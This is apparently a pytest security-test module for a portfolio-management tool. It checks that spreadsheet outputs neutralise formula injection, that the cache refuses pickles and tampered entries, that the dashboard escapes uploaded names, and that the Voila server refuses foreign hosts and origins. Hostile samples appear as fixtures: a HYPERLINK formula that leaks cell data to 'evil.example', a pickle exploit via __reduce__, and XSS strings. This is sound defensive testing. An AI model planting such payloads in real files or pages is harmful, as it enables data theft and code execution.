"""Security review items (issue 12), one section each: every file written, the disk cache,
the batch under faults and the dashboard server (Voila: hosts, origins, kernels).

The dashboard's escaping and upload limits in a real browser are in
``test_dashboard_browser.py``; the batch's fault tests (a worker killed mid-client, a
killed batch, ``--scheduler``) are in ``test_batch.py``.
"""

from __future__ import annotations

import contextlib
import csv
import math
import os
import pickle
import shutil
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from pma_lab.app.cli import main
from pma_lab.errors import PmaLabError
from pma_lab.files import (
    FORMULA_START,
    check_marker,
    neutralise,
    write_csv,
    write_json,
    write_xlsx,
)
from pma_lab.paths import clients_dir, repo_root

EVIL_LOTS = {0: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', 1: "@SUM(1+1)",
             2: "+L3", 3: "-2+3"}


# --------------------------------------------------------------------------------- helpers
def _formula_cells(path: Path) -> list[str]:
    """Every CSV cell a spreadsheet would evaluate (text only; numbers are fine)."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    bad = []
    for c in cells:
        if c.startswith(FORMULA_START):
            try:
                float(c)
            except ValueError:
                bad.append(c)
    return bad


def _neutralised_cells(folder: Path) -> set[str]:
    out: set[str] = set()
    for f in folder.glob("*.csv"):
        with open(f, newline="", encoding="utf-8") as fh:
            out |= {c for row in csv.reader(fh) for c in row if c.startswith("'")}
    return out


@pytest.fixture(scope="module")
def evil(tmp_path_factory) -> Path:
    """tech-exec with formula-like lot ids (as a hostile custodian export could carry)."""
    d = tmp_path_factory.mktemp("evil") / "client"
    shutil.copytree(clients_dir() / "tech-exec", d)
    lots = pd.read_csv(d / "lots.csv", dtype=str)
    for i, v in EVIL_LOTS.items():
        lots.loc[i, "lot_id"] = v
    lots.to_csv(d / "lots.csv", index=False)
    (d / "trades.csv").write_text(
        "date,account,account_type,ticker,side,shares,price,lot_id,method\n"
        "2026-08-03,taxable,taxable,ADBE,sell,100,250.00,+L3,specific\n")
    return d


# ------------------------------------------------------------------ formula injection
def test_neutralise_only_touches_formula_like_text():
    for lead in FORMULA_START:
        assert neutralise(lead + "x") == "'" + lead + "x"
    assert neutralise("AAPL") == "AAPL" and neutralise(-3.5) == -3.5 and neutralise(None) is None


def test_lots_summarize_csv_is_neutralised(evil, tmp_path, capsys):
    out = tmp_path / "summary"
    assert main(["lots", "summarize", "--profile", str(evil / "profile.toml"), "--out",
                 str(out)]) == 0
    for f in out.glob("*.csv"):
        assert _formula_cells(f) == [], f.name
    assert {"'" + v for v in EVIL_LOTS.values()} <= _neutralised_cells(out)
    assert check_marker(out).ok


def test_rebalance_csv_is_neutralised(evil, tmp_path, capsys):
    out = tmp_path / "rb"
    assert main(["rebalance", "--profile", str(evil / "profile.toml"), "--out", str(out)]) == 0
    for f in out.glob("*.csv"):
        assert _formula_cells(f) == [], f.name
    decisions = pd.read_csv(out / "decisions.csv", dtype=str)
    assert set(decisions.lot_id) >= {"'" + v for v in EVIL_LOTS.values()}
    assert check_marker(out).ok


def test_ledger_replay_csv_is_neutralised(evil, tmp_path, capsys):
    out = tmp_path / "8949.csv"
    assert main(["ledger", "replay", str(evil / "trades.csv"), "--lots",
                 str(evil / "lots.csv"), "--out", str(out)]) == 0
    rows = pd.read_csv(out, dtype=str)
    assert list(rows.lot_id) == ["'+L3"]
    assert _formula_cells(out) == [] and _formula_cells(out.with_suffix(".netting.csv")) == []


def test_transition_outputs_are_safe_and_marked(evil, tmp_path, capsys):
    out = tmp_path / "tr"
    assert main(["transition", "--profile", str(evil / "profile.toml"), "--plans",
                 "immediate", "--years", "1", "--annual", "--out", str(out)]) == 0
    for f in out.glob("*.csv"):
        assert _formula_cells(f) == [], f.name
    m = check_marker(out)
    assert m.ok and {p.name for p in m.files} == {"comparison.csv", "yearly.csv",
                                                  "vintages.csv", "analysis.json"}


def test_json_is_strict_a_missing_figure_is_null(tmp_path):
    """Every JSON pma_lab writes parses strictly: NaN and infinities (floats, numpy's, in
    records, lists and nested dicts) are ``null``; on main they were written bare (``NaN``,
    ``Infinity``), which JSON.parse and strict readers refuse (session 13 review H1)."""
    import json

    def refuse(name):
        raise AssertionError(f"{name} is not JSON")

    frame = pd.DataFrame({"plan": ["a", "b"], "tax": [1.5, math.nan]})
    p = write_json(tmp_path / "x.json", {
        "records": frame.to_dict(orient="records"), "inf": float("inf"),
        "np": [np.float64("nan"), np.float32(2.0), -np.inf], "t": (1, math.nan),
        "deep": {"k": {"v": math.nan}}, "n": 3, "s": "NaN"})
    doc = json.loads(p.read_text(), parse_constant=refuse)
    assert doc == {"records": [{"plan": "a", "tax": 1.5}, {"plan": "b", "tax": None}],
                   "inf": None, "np": [None, 2.0, None], "t": [1, None],
                   "deep": {"k": {"v": None}}, "n": 3, "s": "NaN"}


def test_xlsx_keeps_text_as_a_string_cell_with_quote_prefix(tmp_path):
    frame = pd.DataFrame({"Lot ID": list(EVIL_LOTS.values()) + ["L6"],
                          "Est. Amount": [1.5, -2.0, 3.0, 4.0, np.nan]})
    path = write_xlsx({"Trades": frame}, tmp_path / "t.xlsx",
                      number_formats={"Est. Amount": "#,##0.00"})
    ws = openpyxl.load_workbook(path).active
    col = [ws.cell(row=i, column=1) for i in range(2, 7)]
    assert [c.value for c in col] == list(frame["Lot ID"])  # the text, unchanged
    assert all(c.data_type == "s" for c in col)
    assert [c.quotePrefix for c in col] == [True] * 4 + [False]
    assert ws["B3"].value == -2 and ws["B3"].number_format == "#,##0.00"
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all


def _soffice() -> str:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if not exe:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui); "
                    "the XML-level checks above still ran")
    return exe


def test_libreoffice_shows_written_formulas_as_text(tmp_path):
    """LibreOffice (headless) opens our CSV and XLSX: nothing evaluates, unlike raw files."""
    exe = _soffice()
    text = ['=1+1', '=HYPERLINK("http://evil.example","x")', "@SUM(2+2)"]
    frame = pd.DataFrame({"lot": text, "n": [1.0, 2.0, 3.0]})
    write_csv(frame, tmp_path / "ours.csv")
    write_xlsx(frame, tmp_path / "ours.xlsx")
    pd.DataFrame({"lot": text}).to_csv(tmp_path / "raw.csv", index=False)  # the control
    env = {**os.environ, "HOME": str(tmp_path)}
    conv = tmp_path / "conv"
    for src, fmt in (("ours.xlsx", "csv"), ("ours.csv", "xlsx"), ("raw.csv", "xlsx")):
        subprocess.run([exe, "--headless", "--norestore",
                        f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", fmt,
                        "--outdir", str(conv), str(tmp_path / src)], check=True, env=env,
                       capture_output=True, timeout=120)
    # XLSX -> CSV: LibreOffice exports the cells' text; an evaluated cell would read "2"
    assert pd.read_csv(conv / "ours.csv", dtype=str).lot.tolist() == text

    def formulas(xlsx: Path) -> list:
        wb = openpyxl.load_workbook(xlsx)
        return [c.value for row in wb.active.iter_rows() for c in row if c.data_type == "f"]

    assert formulas(conv / "raw.xlsx")  # the control: LibreOffice evaluates a raw CSV
    assert formulas(conv / "ours.xlsx") == []


# -------------------------------------------------------------- outputs and inputs
def test_lots_summarize_into_the_client_folder_never_replaces_its_lots(evil, tmp_path,
                                                                        capsys):
    client = tmp_path / "client"
    shutil.copytree(evil, client)
    before = (client / "lots.csv").read_bytes()
    code = main(["lots", "summarize", "--profile", str(client / "profile.toml"), "--out",
                 str(client)])
    err = capsys.readouterr().err
    assert code == 2
    assert "refusing to overwrite an input of this run" in err and "lots.csv" in err
    assert (client / "lots.csv").read_bytes() == before
    assert not (client / "holdings.csv").exists()  # checked before anything was written


def test_a_planted_symlink_is_refused_not_followed(evil, tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "holdings.csv").symlink_to(victim)
    code = main(["lots", "summarize", "--profile", str(evil / "profile.toml"), "--out",
                 str(out)])
    assert code == 2 and "symbolic link" in capsys.readouterr().err
    assert victim.read_text() == "precious"
    assert (out / "holdings.csv").is_symlink()


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    class Boom:
        def __str__(self) -> str:
            raise RuntimeError("disk full")

    path = tmp_path / "t.csv"
    path.write_text("old\n")
    frame = pd.DataFrame({"a": ["x"] * 1000 + [Boom()]})
    with pytest.raises(RuntimeError, match="disk full"):
        write_csv(frame, path)
    assert path.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def _tiny_proposal(path: Path) -> Path:
    """A proposal notebook reduced to its contract: parameters, cover and trade list."""
    import nbformat

    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('profile = ""  # help\nlots = []\nas_of = ""')
    params.metadata["tags"] = ["parameters"]
    body = nbformat.v4.new_code_cell(
        "import pandas as pd\nfrom pma_lab.report import proposal as report\n"
        "c = report.load(profile, lots, as_of)\ndisplay(report.cover(c, 'Firm'))\n"
        "report.ReportTable(pd.DataFrame([['taxable', 'AAPL', 'SELL', 1.0, '=1+1', 10.0, "
        "10.0, 'LT', 1.0]], columns=list(report.TRADE_COLUMNS)), name='trades', "
        "machine=True)")
    nb.cells = [params, body]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nbformat.write(nb, path)
    return path


def test_a_proposal_that_fails_late_leaves_no_trade_file_and_no_marker(tmp_path,
                                                                       monkeypatch):
    """Chromium fails after the HTML: no trade files, no run marker (the run is incomplete).

    Then Chromium works: the trade files and the marker follow the proposal.
    """
    from pma_lab.report import proposal as report

    nb = _tiny_proposal(tmp_path / "tiny.ipynb")
    out = tmp_path / "p"
    profile = clients_dir() / "young-pro" / "profile.toml"
    monkeypatch.setattr(report, "CHROMIUM", "/bin/false")  # a printer that fails
    with pytest.raises(PmaLabError, match="Chromium failed to print"):
        report.render_proposal(profile, out, notebook=nb, formats=("html", "pdf"))
    assert (out / "young-pro_proposal.html").is_file()
    assert not list(out.glob("*_trades.*")) and not list(out.glob("*_complete.json"))
    assert not list(out.glob(".*.part*"))  # no temporary left behind
    res = report.render_proposal(profile, out, notebook=nb, formats=("html",))
    m = check_marker(out / "young-pro_complete.json")
    assert m.ok and set(m.files) == {res.notebook, res.html, res.trades_csv, res.trades_xlsx}
    assert _formula_cells(res.trades_csv) == []


# ------------------------------------------------------------------------------- cache
TICKERS = None  # the whole universe (a handful of names leaves industry groups empty)


def _plant(path: Path, flag: Path) -> None:
    """Replace a file with a pickle that creates ``flag`` when it is unpickled."""
    class Exploit:
        def __reduce__(self):
            return (Path.touch, (flag,))

    path.write_bytes(pickle.dumps(Exploit()))


def test_cache_never_unpickles_and_verifies_on_read(tmp_path, monkeypatch):
    from pma_lab.cache import CacheWarning
    from pma_lab.portfolio.risk import estimate_risk_model

    monkeypatch.setenv("PMA_LAB_CACHE", str(tmp_path / "cache"))
    first = estimate_risk_model("2024-06-28", TICKERS)
    files = [p for p in (tmp_path / "cache").rglob("*") if p.is_file()]
    assert files and not any(p.suffix == ".pkl" for p in files)
    # whoever can write the output folder replaces every cache file with a pickle exploit
    flag = tmp_path / "pwned"
    for p in files:
        _plant(p, flag)
    with pytest.warns(CacheWarning, match="failed verification"):
        again = estimate_risk_model("2024-06-28", TICKERS)
    assert not flag.exists()
    np.testing.assert_array_equal(again.factor_cov, first.factor_cov)
    # the entry was replaced by a good one: read back without warnings, same numbers
    with warnings.catch_warnings():
        warnings.simplefilter("error", CacheWarning)
        third = estimate_risk_model("2024-06-28", TICKERS)
    np.testing.assert_array_equal(third.exposures, first.exposures)
    pd.testing.assert_frame_equal(third.coverage, first.coverage)
    assert third.settings == first.settings and third.as_of == first.as_of


def test_cache_rejects_tampered_numbers_and_misfiled_entries(tmp_path, monkeypatch):
    from pma_lab.cache import CacheWarning, entry_path
    from pma_lab.portfolio.risk import estimate_risk_model

    monkeypatch.setenv("PMA_LAB_CACHE", str(tmp_path / "cache"))
    a = estimate_risk_model("2024-06-28", TICKERS)
    entry = next((tmp_path / "cache").iterdir())
    arrays = dict(np.load(entry / "arrays.npz"))
    arrays = {k: v * 2 if v.dtype.kind == "f" else v for k, v in arrays.items()}
    np.savez(entry / "arrays.npz", **arrays)  # valid npz, wrong numbers
    with pytest.warns(CacheWarning, match="SHA-256"):
        b = estimate_risk_model("2024-06-28", TICKERS)
    np.testing.assert_array_equal(a.specific_var, b.specific_var)
    # a good entry copied under another key is not served for that key
    other = entry_path("risk", ("another key",))
    shutil.copytree(entry, other)
    from pma_lab.cache import cached

    with pytest.warns(CacheWarning, match="does not match its key"):
        assert cached("risk", ("another key",), lambda: 42) == 42


# ------------------------------------------------------------------- dashboard widgets
def _dashboard_upload():
    from pma_lab.app.dashboard import HoldingsUpload

    up = HoldingsUpload()
    up.profile_path = str(clients_dir() / "household" / "profile.toml")
    assert up.client is not None
    return up


def _browser_message(up, content: dict, data: bytes | None = None) -> None:
    """A message from the browser's file picker, delivered through the widget's comm."""
    up._upload._handle_msg({"content": {"data": {"method": "custom", "content": content}},
                            "buffers": [memoryview(data)] if data is not None else []})


def test_dashboard_escapes_every_user_string():
    from pma_lab.app.dashboard import RestrictionEditor

    up = _dashboard_upload()
    lots = (clients_dir() / "household" / "household_lots.csv").read_bytes()
    name = "<img src=x onerror=alert(1)>.csv"
    _browser_message(up, {"event": "file", "name": name, "size": len(lots)}, lots)
    assert up.source == f"{name} (uploaded)"
    assert "<img" not in up._info.value and "&lt;img src=x onerror=alert(1)&gt;" in up._info.value
    ed = RestrictionEditor()
    ed.client = up.client
    ed.set_no_buy("<script>alert(1)</script>, <img/src=x/onerror=alert(2)>")
    assert "<script>" not in ed._note.value and "<img" not in ed._note.value
    assert "&lt;script&gt;" in ed._note.value


def test_every_upload_failure_is_shown_and_keeps_the_proposal(tmp_path, monkeypatch):
    up = _dashboard_upload()
    before, source = up.client, up.source
    # a workbook with malformed XML: an input error naming the file (the reader used to
    # raise a bare ParseError here)
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(broken, "w") as z:
        z.writestr("[Content_Types].xml", "<x")
        z.writestr("xl/workbook.xml", "<<")
    assert not up.handle_upload(broken.name, broken.read_bytes())
    assert "broken.xlsx: 1 problem found" in up._panel.value
    assert "nothing was loaded" in up._panel.value
    assert up.client is before and up.source == source
    # an unexpected (non-pma_lab) exception while loading: a message, the proposal kept
    # (the fault is injected: no real input reaches this branch any more)
    import pma_lab.app.dashboard.widgets as widgets

    def fails(*a, **k):
        raise RuntimeError("disk went away")

    monkeypatch.setattr(widgets, "load_client_replacing", fails)  # what an upload calls
    good = repo_root() / "data" / "samples" / "clients" / "household" / "household_lots.csv"
    assert not up.handle_upload("lots.csv", good.read_bytes())
    assert "lots.csv was not loaded" in up._panel.value
    assert "disk went away" in up._panel.value
    assert up.client is before and up.source == source
    assert f"The proposal still shows {source}" in up.error
    monkeypatch.undo()
    # refused in the browser: only the name and the size arrive
    _browser_message(up, {"event": "too_large", "name": "big.csv", "size": 20_000_000})
    assert "big.csv was not loaded: it is 19.1 MB; the limit is 5.0 MB" in up._panel.value
    # a hostile message (wrong types, no buffer) is reported, never raised
    _browser_message(up, {"event": "too_large", "name": None, "size": "lots"})
    assert "pma-error-panel" in up._panel.value and "The upload failed" in up._panel.value
    _browser_message(up, {"event": "file", "name": "x.csv", "size": 10})  # no bytes
    assert "x.csv: 1 problem found" in up._panel.value and up.client is before
    # bytes over the limit that bypass the browser's check are refused here as well
    _browser_message(up, {"event": "file", "name": "y.csv", "size": 1},
                     b"0" * (up.max_bytes + 1))
    assert "y.csv was not loaded: it is" in up._panel.value
    assert up.client is before


# ------------------------------------------------------------------- dashboard server
VOILA_JSON = repo_root() / "notebooks" / "voila.json"
TOKEN = "test-token-0123456789abcdef"


def test_voila_json_restricts_hosts_caps_kernels_and_culls_within_a_minute():
    import json

    cfg = json.loads(VOILA_JSON.read_text())
    t = cfg["Voila"]["tornado_settings"]
    assert cfg["Voila"]["ip"] == "127.0.0.1"
    assert t["allow_remote_access"] is False and t["local_hostnames"] == ["localhost"]
    assert "allow_origin" not in t and "allow_origin_pat" not in t
    # an upload larger than the websocket allows would drop the connection: the browser
    # refuses files over the widget's limit, which stays below the server's
    from pma_lab.app.dashboard.widgets import MAX_UPLOAD_BYTES

    assert MAX_UPLOAD_BYTES < t["websocket_max_message_size"] <= 16 * 2**20
    vc = cfg["VoilaConfiguration"]
    assert vc["multi_kernel_manager_class"] == "pma_lab.app.dashboard.server.CappedKernelManager"
    assert 1 <= cfg["CappedKernelManager"]["max_kernels"] <= 8
    k = cfg["MappingKernelManager"]
    assert k["cull_idle_timeout"] + k["cull_interval"] <= 60 and k["cull_connected"] is False


def _tiny_dashboard(folder: Path) -> Path:
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("print('dashboard')")]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nbformat.write(nb, folder / "tiny.ipynb")
    shutil.copy(VOILA_JSON, folder / "voila.json")  # the settings under test
    shutil.copy(VOILA_JSON.with_suffix(".py"), folder / "voila.py")  # its template hook
    return folder / "tiny.ipynb"


@pytest.fixture(scope="module")
def voila_server(tmp_path_factory):
    """Voila with notebooks/voila.json on a tiny notebook: 2 kernels at most, culling after
    5 s (the real 45 s are checked in the file), a login token."""
    import socket

    folder = tmp_path_factory.mktemp("voila")
    _tiny_dashboard(folder)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    log = folder / "voila.log"
    exe = Path(sys.executable).parent / "voila"
    cmd = [str(exe), "tiny.ipynb", "--no-browser", f"--port={port}", f"--Voila.token={TOKEN}",
           "--CappedKernelManager.max_kernels=2", "--CappedKernelManager.refill_poll=0.5",
           "--MappingKernelManager.cull_idle_timeout=5",
           "--MappingKernelManager.cull_interval=1"]
    with open(log, "wb") as fh:
        proc = subprocess.Popen(cmd, cwd=folder, stdout=fh, stderr=subprocess.STDOUT)
    try:
        t0 = time.monotonic()
        while "is filled" not in log.read_text(errors="replace"):
            assert proc.poll() is None, log.read_text()
            assert time.monotonic() - t0 < 120, log.read_text()
            time.sleep(0.2)
        yield {"port": port, "log": log}
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()


def _get(port: int, host: str | None = None, token: bool = True):
    import http.client

    c = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    c.request("GET", f"/?token={TOKEN}" if token else "/",
              headers={"Host": host or f"127.0.0.1:{port}"})
    r = c.getresponse()
    body = r.read().decode(errors="replace")
    cookie = "; ".join(v.split(";")[0] for k, v in r.getheaders() if k.lower() == "set-cookie")
    return r.status, body, cookie


WS_WAIT = 300  # s: how long a websocket may take to open (a hang guard, no timing goal)


def _ws(port: int, kernel: str, host: str, origin: str | None, cookie: str,
        pad: int = 0) -> tuple[int, str | None]:
    """Open the kernel's websocket as a logged-in browser would (the login cookie, no
    token in the URL: token requests skip the origin check by design).

    Returns the HTTP status (101 when accepted) and, when ``pad`` > 0, what happened to a
    ``kernel_info_request`` padded to ``pad`` bytes: ``"reply"`` or ``"closed"``.
    """
    import asyncio
    import json
    import uuid

    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.iostream import StreamClosedError
    from tornado.websocket import WebSocketClosedError, websocket_connect

    async def go():
        headers = {"Host": host, "Cookie": cookie, **({"Origin": origin} if origin else {})}
        # (a hang guard, not tornado's 20 s: a loaded machine took longer, status 599)
        req = HTTPRequest(f"ws://127.0.0.1:{port}/api/kernels/{kernel}/channels",
                          headers=headers, connect_timeout=WS_WAIT, request_timeout=WS_WAIT)
        try:
            conn = await websocket_connect(req)
        except HTTPClientError as e:
            return e.code, None
        outcome = None
        if pad:
            msg_id = uuid.uuid4().hex
            msg = {"header": {"msg_id": msg_id, "msg_type": "kernel_info_request",
                              "session": uuid.uuid4().hex, "username": "test",
                              "version": "5.3", "date": "2026-01-01T00:00:00Z"},
                   "parent_header": {}, "metadata": {"pad": "x" * pad}, "content": {},
                   "channel": "shell", "buffers": []}
            with contextlib.suppress(WebSocketClosedError, StreamClosedError):
                await conn.write_message(json.dumps(msg))
            outcome = "closed"
            while (m := await asyncio.wait_for(conn.read_message(), 30)) is not None:
                if isinstance(m, str) and msg_id in m and "kernel_info_reply" in m:
                    outcome = "reply"
                    break
        conn.close()
        return 101, outcome

    return asyncio.run(go())


class _Connected:
    """Kernels held connected, as a page that opened its websocket holds its kernel.

    The culler never culls a connected kernel (``cull_connected`` false in
    notebooks/voila.json), so while a kernel is held its session counts whatever the
    machine's speed: unheld, a kernel idle for the test's 5 s while a loaded machine
    served the next requests was culled, freeing room for a third session (or closing the
    kernel before its websocket checks). :meth:`close` lets them go.
    """

    def __init__(self, port: int, cookie: str):
        import asyncio
        import threading

        self._local, self._cookie = f"127.0.0.1:{port}", cookie
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._thread.start()
        self._conns: list = []

    def _run(self, coro):
        import asyncio

        return asyncio.run_coroutine_threadsafe(coro, self._loop).result(WS_WAIT + 60)

    def hold(self, kernel: str) -> None:
        """Open ``kernel``'s websocket from the page's own origin and keep it open."""
        from tornado.httpclient import HTTPRequest
        from tornado.websocket import websocket_connect

        req = HTTPRequest(f"ws://{self._local}/api/kernels/{kernel}/channels",
                          headers={"Host": self._local, "Cookie": self._cookie,
                                   "Origin": f"http://{self._local}"},
                          connect_timeout=WS_WAIT, request_timeout=WS_WAIT)

        async def connect():
            return await websocket_connect(req)

        self._conns.append(self._run(connect()))

    def close(self) -> None:
        """Close the websockets (the kernels become cullable) and stop the thread; once."""
        if self._loop.is_closed():
            return

        async def close_all():
            for c in self._conns:
                c.close()

        self._run(close_all())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(60)
        self._loop.close()


@pytest.mark.slow
def test_voila_refuses_foreign_hosts_and_origins_caps_and_culls(voila_server):
    import re

    port, log = voila_server["port"], voila_server["log"]
    local = f"127.0.0.1:{port}"
    # a foreign Host header (DNS rebinding) is refused, with a valid token even
    assert _get(port, host=f"evil.example:{port}")[0] == 403
    assert _get(port, token=False)[0] in (302, 403)  # no token: the login page
    status, page, cookie = _get(port)
    assert status == 200 and "dashboard" in page and cookie
    kernel = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', page).group(1)
    held = _Connected(port, cookie)  # the sessions stay until the culling is checked
    held.hold(kernel)
    try:
        # the kernel's websocket: refused when Host and Origin are both foreign, or when the
        # Origin is foreign; accepted from the page's own origin
        evil = f"evil.example:{port}"
        assert _ws(port, kernel, evil, f"http://{evil}", cookie)[0] == 403
        assert _ws(port, kernel, local, "http://evil.example", cookie)[0] == 403
        assert _ws(port, kernel, local, f"http://{local}", cookie) == (101, None)
        # a message over websocket_max_message_size closes the connection; below it, a reply
        assert _ws(port, kernel, local, f"http://{local}", cookie, pad=2**20) == (101, "reply")
        assert _ws(port, kernel, local, f"http://{local}", cookie, pad=9 * 2**20) == (101,
                                                                                     "closed")
        # two sessions at most: the third page load is refused with a message, no kernel
        status, page, _ = _get(port)
        assert status == 200
        held.hold(re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', page).group(1))
        status, page, _ = _get(port)
        assert status == 503 and "maximum of 2 sessions" in page
    finally:
        held.close()
    # pages no longer connected lose their kernels to the culler, and room frees up
    t0 = time.monotonic()
    while "Culling 'idle' kernel" not in log.read_text(errors="replace"):
        assert time.monotonic() - t0 < 60, log.read_text()
        time.sleep(0.5)
    t0 = time.monotonic()
    while (status := _get(port)[0]) == 503 and time.monotonic() - t0 < 60:
        time.sleep(1)
    assert status == 200


# ------------------------------------------------------------------------ dependencies
def test_make_setup_installs_the_pinned_versions():
    """constraints.txt pins every package pma_lab[dev] needs; make setup installs them."""
    import importlib.metadata as md
    import re

    from packaging.requirements import Requirement
    from packaging.utils import canonicalize_name

    root = repo_root()
    pins = {}
    for line in (root / "constraints.txt").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            name, _, version = line.partition("==")
            pins[canonicalize_name(name)] = version.strip()
    setup = (root / "Makefile").read_text().split("\n$(STAMP):", 1)[1].split("\n\n", 1)[0]
    assert re.search(r"pip install .*-c constraints\.txt -e '\.\[dev\]'", setup)
    # every package reachable from pma_lab[dev] is pinned, at the version installed
    todo, seen = [("pma_lab", {"dev"})], set()
    while todo:
        name, extras = todo.pop()
        for spec in md.requires(name) or []:
            req = Requirement(spec)
            env = [{"extra": e} for e in (extras or {""})]
            if req.marker and not any(req.marker.evaluate(e) for e in env):
                continue
            key = canonicalize_name(req.name)
            if key == "rfc3987-syntax":  # removed after every install (see the Makefile)
                continue
            assert key in pins, f"{req.name} is not pinned in constraints.txt (make lock)"
            assert md.version(req.name) == pins[key], req.name
            if (key, frozenset(req.extras)) not in seen:
                seen.add((key, frozenset(req.extras)))
                todo.append((req.name, set(req.extras)))
    assert {"voila", "papermill", "cvxpy", "distributed", "entrypoints"} <= {k for k, _ in seen}


def test_csv_floats_lose_their_binary_noise(tmp_path):
    """Reviewer 1, session 19: trades.csv held 752.8199999999999 (3 x $250.94),
    decisions.csv 0.5599999999999999; a float is written to 15 significant digits."""
    from pma_lab.files import write_csv

    frame = pd.DataFrame({"value": [3 * 250.94, 39568.5 + 1e-11, float("nan")],
                          "mixed": pd.Series([0.56 - 1e-16, "text", None], dtype=object),
                          "shares": [3, 4, 5]})
    assert frame.value[0] != 752.82
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text().splitlines()
    assert text[1:] == ["752.82,0.56,3", "39568.5,text,4", ",,5"]
    assert frame.value[0] != 752.82  # the caller's frame is left as it was
